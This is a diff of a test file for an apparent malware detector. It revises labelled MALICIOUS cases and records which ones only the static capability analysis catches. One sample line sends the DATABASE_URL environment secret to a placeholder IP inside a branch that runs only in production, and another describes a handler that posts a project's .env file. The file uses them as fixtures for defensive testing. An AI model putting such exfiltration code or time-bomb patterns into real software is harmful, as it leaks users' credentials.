@@ -168,8 +168,8 @@ MALICIOUS = [
         reports.set(id, req.body);
         res.status(201).json({ id });
         """,
-        expected=A,
-        why="the handler reads the project's .env first, which the run never sees (files.exclude; absent here), so the read throws before the send; nothing static in JS follows a file to the network",
+        # Blocked by the capability analysis (the .env read flows to fetch). The run alone misses it:
+        # the project's .env is never in the sandbox (files.exclude), so the read throws before the send.
     ),
     bad(
         "secret-as-dns-label",
@@ -605,10 +605,9 @@ MALICIOUS = [
           http.get(`http://203.0.113.40/t?k=${process.env.DATABASE_URL}`).on("error", () => undefined);
         }
         """,
-        expected=A,
         on_load=True,
-        why="the condition needs a production host: the sandbox's NODE_ENV is unset and its host name is not prod-*, "
-        "so the branch never runs, and nothing static reads a network call with an environment secret in JS",
+        # Blocked by the capability analysis ($DATABASE_URL in the request's URL). The run alone misses
+        # it: the condition needs a production host (the sandbox's NODE_ENV is unset, its host is not prod-*).
     ),
     bad(
         "enum-beside-exfil",
@@ -1311,9 +1310,17 @@ BENIGN = [
 
 CASES = MALICIOUS + BENIGN
 
-# What the same cases come to without micro-execution (the sandbox runs the document's top level
-# only): the decisions that differ. The malicious cases here are stopped only because the exercise
-# called the function, method or handler they sit in; the benign ones are held only because it did.
+# Decided otherwise by the sandbox run alone, with micro-execution (the capability analysis's rules
+# off: `test_what_the_run_decides`): what the static analysis catches that the run cannot see.
+RUN_ONLY = {
+    "dotenv-sent-by-handler": A,  # the project's .env is never in the sandbox: the read throws first
+    "time-bomb-production-only": A,  # the production-only branch never runs in the sandbox
+}
+
+# What the run alone comes to without micro-execution (the sandbox runs the document's top level
+# only): the decisions that differ from RUN_ONLY's. The malicious cases here are stopped only because
+# the exercise called the function, method or handler they sit in; the benign ones are held only
+# because it did.
 WITHOUT_EXERCISE = {
     "env-posted-by-sync": A,
     "env-dump-by-method": A,
